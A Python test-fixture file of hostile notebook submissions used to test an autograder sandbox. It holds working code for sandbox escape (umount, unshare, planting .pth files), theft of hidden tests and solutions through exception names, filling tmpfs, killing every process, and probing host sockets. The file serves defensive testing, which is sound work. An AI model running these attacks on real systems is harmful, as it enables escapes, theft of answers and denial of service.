"""Hostile submissions, one per finding of the review that broke the first sandbox (issue 7).

Each attack is answer-cell source for the ``softmax_regression`` notebook.  The attacks know what a
determined student could find out (the usual paths of the kit, the venv, the course, the home
directory: the test passes them in as ``TARGETS``) and report whatever they manage in the one
channel they have, the grader's messages: exception class names and texts, return values.  The
tests never trust those reports; they check from outside (files, processes, /dev/shm, listeners,
the JSON, the feedback and the autograded notebook).
"""

from __future__ import annotations

from dataclasses import dataclass, field

ASSIGNMENT = "softmax_regression"


@dataclass(frozen=True)
class Attack:
    """A hostile student: answer cells that replace the base notebook's, and what it targets."""

    name: str
    base: str                   # "stubs" or "reference": the other answer cells
    cells: dict = field(default_factory=dict)
    untag: tuple = ()           # answer cells that lose their grading metadata
    extra: tuple = ()           # sources of code cells added at the end, without metadata


def _prelude(targets: dict) -> str:
    return f"import os, sys, gc, socket, ctypes, time, zlib, base64\nTARGETS = {targets!r}\n"


def escape_and_write(targets: dict) -> Attack:
    """Finding 1: unmount what hides the answers, write the kit, the venv, ~/.bashrc, the course
    config, a classmate's notebook and the gradebook; create a user namespace to regain powers."""
    code = _prelude(targets) + r'''
libc = ctypes.CDLL(None, use_errno=True)
DONE = []
for line in open("/proc/self/mountinfo").read().splitlines():
    point = line.split()[4]
    for flags in (2, 0):
        if libc.umount2(point.encode(), flags) == 0:
            DONE.append("umount " + point)
for flags in (0x10000000, 0x10000000 | 0x00020000, 0x00020000):
    if libc.unshare(flags) == 0:
        DONE.append("unshare %x" % flags)
for path in TARGETS["write"]:
    for mode in ("a", "w"):
        try:
            with open(path, mode) as f:
                f.write("\nraise SystemExit('pwned')\n")
            DONE.append("wrote " + path)
        except OSError:
            pass
    try:
        os.chmod(path, 0o777)
        DONE.append("chmod " + path)
    except OSError:
        pass
for folder in TARGETS["dirs"]:
    try:
        with open(os.path.join(folder, "zz_pwned.pth"), "w") as f:
            f.write("import os; os.system('touch /tmp/pwned')\n")
        DONE.append("created in " + folder)
    except OSError:
        pass

def softmax(X):
    raise RuntimeError("escape results: " + repr(DONE))
'''
    return Attack("escape_and_write", "stubs", {"softmax": code})


def leak_answers(targets: dict) -> Attack:
    """Finding 2: find the hidden suite and the solutions anywhere (.git packfiles and loose
    objects, tests/corpus, scripts, other clones) and carry them out in exception class names."""
    code = _prelude(targets) + r'''
FOUND = []
def _walk(top, budget):
    for dirpath, dirnames, filenames in os.walk(top):
        if time.monotonic() > budget or len(FOUND) > 2000:
            return
        dirnames[:] = [d for d in dirnames if not (dirpath == "/" and d in ("proc", "sys"))]
        for name in filenames:
            path = os.path.join(dirpath, name)
            if any(k in path for k in (".git", "grader_tests", "solutions", "corpus", "mutants", "nbgrader_config",
                                      "gradebook", ".ipynb", "bashrc", "hidden")):
                try:
                    with open(path, "rb") as f:
                        FOUND.append((path, f.read(200000)))
                except OSError:
                    pass
_walk("/", time.monotonic() + 5)
for path in TARGETS["read"]:
    try:
        with open(path, "rb") as f:
            FOUND.append((path, f.read()))
    except OSError:
        pass
BLOB = b"".join(p.encode() + b"\n" + d for p, d in FOUND)
TEXT = BLOB.decode("latin-1")
PACKED = base64.b85encode(zlib.compress(BLOB, 9)).decode()

def _leak(text):
    raise type(text[:200000] or "Nothing", (Exception,), {})(text[:200000] or "found nothing")

def softmax(X):
    _leak(TEXT)

def cross_entropy(y_hat, y):
    _leak(PACKED)

def accuracy(y_hat, y):
    return TEXT[:100000]
'''
    return Attack("leak_answers", "stubs", {"softmax": code})


def fill_memory(targets: dict) -> Attack:
    """Finding 3: fill /dev/shm and /tmp (tmpfs: not in RLIMIT_AS, outlives the child on the host)
    and keep a process alive that holds it."""
    code = _prelude(targets) + r'''
WROTE = {}
for folder in ("/dev/shm", "/tmp", "/var/tmp", "/run/shm", os.path.expanduser("~")):
    total = 0
    try:
        for i in range(400):
            with open(os.path.join(folder, "fill-%d" % i), "wb") as f:
                for _ in range(8):
                    f.write(b"\xff" * (1 << 20))
                    total += 1 << 20
    except OSError:
        pass
    WROTE[folder] = total
try:
    fd = os.memfd_create("fill")
    for _ in range(64):
        os.write(fd, b"\xff" * (1 << 20))
except OSError:
    pass
if os.fork() == 0:
    os.setsid()
    time.sleep(600)
    os._exit(0)
'''
    return Attack("fill_memory", "reference", {"softmax": code + _reference_softmax()})


def forged_hello(targets: dict) -> Attack:
    """Finding 5: answer on the grader's socket before the child does, with bytes that break the
    decoder in ways other than a WireError, again on every call, to make the grader leak workers."""
    code = _prelude(targets) + r'''
import json, struct
def _garbage():
    socks = [o for o in gc.get_objects() if isinstance(o, socket.socket)]
    bad = [
        b'{"status": "ready", "load_errors": {"__t__": "dict", "items": [[[1], 2]]}}',
        b'{"__t__": "tensor", "dtype": "float32", "shape": [2], "blob": 0}',
        b'{"__t__": "dict", "items": [[{"__t__": "tuple", "items": [[]]}, 1]]}',
        b'[' * 5000,
        b'{"__t__": "bigint", "v": "9" }',
    ]
    for s in socks:
        for b in bad:
            try:
                s.sendall(struct.pack("<Q", len(b) + 8) + struct.pack("<Q", len(b)) + b)
            except OSError:
                pass
_garbage()

def cross_entropy(y_hat, y):
    _garbage()
    return -torch.log(y_hat[range(len(y_hat)), y])

def accuracy(y_hat, y):
    _garbage()
    os.fork() == 0 and time.sleep(600)
    return 1.0
'''
    return Attack("forged_hello", "reference", {"cross_entropy": code})


def reach_sockets(targets: dict) -> Attack:
    """Finding 7: no network, but pathname and abstract unix sockets of the host (docker's, the
    session bus, an X server, a test listener), and the instructor's groups."""
    code = _prelude(targets) + r'''
REACHED = []
candidates = list(TARGETS["sockets"])
for top in ("/run", "/var/run", "/tmp", "/dev", os.path.expanduser("~")):
    for dirpath, dirnames, filenames in os.walk(top):
        candidates += [os.path.join(dirpath, n) for n in filenames]
for path in candidates:
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(0.5)
        s.connect(path)
        REACHED.append(path)
    except OSError:
        pass
for name in TARGETS["abstract"]:
    try:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(0.5)
        s.connect("\0" + name)
        REACHED.append("@" + name)
    except OSError:
        pass
for host in ("127.0.0.1", "10.0.2.2", "1.1.1.1"):
    try:
        socket.create_connection((host, TARGETS["tcp_port"]), timeout=0.5)
        REACHED.append(host)
    except OSError:
        pass
GROUPS = os.getgroups()
'''
    return Attack("reach_sockets", "reference", {"accuracy": code + _reference_accuracy()})


def amplify_output(targets: dict) -> Attack:
    """Finding 8: a small notebook whose module-level error text (and class name) is megabytes,
    copied into every message."""
    code = _prelude(targets) + r'''
def softmax(X):
    raise type("E" * 3_000_000, (Exception,), {})("x" * 5_000_000)
def cross_entropy(y_hat, y):
    return ["y" * 1_000_000] * 60
raise type("Boom" * 1_000_000, (Exception,), {})("z" * 5_000_000)
'''
    return Attack("amplify_output", "stubs", {"softmax": code})


def kill_everything(targets: dict) -> Attack:
    """Findings 5 and 12: signal every process it can name, its parent, PID 1, -1; fork children
    that try to outlive the grader."""
    code = _prelude(targets) + r'''
import signal
for _ in range(5):
    if os.fork() == 0:
        os.setsid()
        time.sleep(600)
        os._exit(0)
for pid in [os.getppid(), 1, -1, 2] + list(range(2, 400)):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
'''
    return Attack("kill_everything", "reference", {"sgd": code + _reference_sgd()})


def stall_the_parser(targets: dict) -> Attack:
    """Finding 4: before any sandbox, the trusted grader looked for an answer cell that lost its
    metadata with a backtracking regex; cells of blank lines made it quadratic and stalled the class."""
    padding = "\n" * 1_500_000 + " " * 500_000
    return Attack("stall_the_parser", "reference", untag=("softmax",),
                  extra=(padding + "def  softmax(X):\n    pass\n", padding + "class softmax_:\n    pass\n"))


def _reference_softmax() -> str:
    return ("\n\ndef softmax(X):\n    X_exp = torch.exp(X - X.max(dim=1, keepdim=True).values)\n"
            "    return X_exp / X_exp.sum(1, keepdim=True)\n")


def _reference_accuracy() -> str:
    return ("\n\ndef accuracy(y_hat, y):\n    return float((y_hat.argmax(dim=1) == y).float().mean())\n")


def _reference_sgd() -> str:
    return ("\n\ndef sgd(params, lr, batch_size):\n    with torch.no_grad():\n        for param in params:\n"
            "            if param.grad is None:\n                continue\n"
            "            param -= lr * param.grad / batch_size\n            param.grad.zero_()\n")


ATTACKS = [escape_and_write, leak_answers, fill_memory, forged_hello, reach_sockets, amplify_output, kill_everything,
           stall_the_parser]
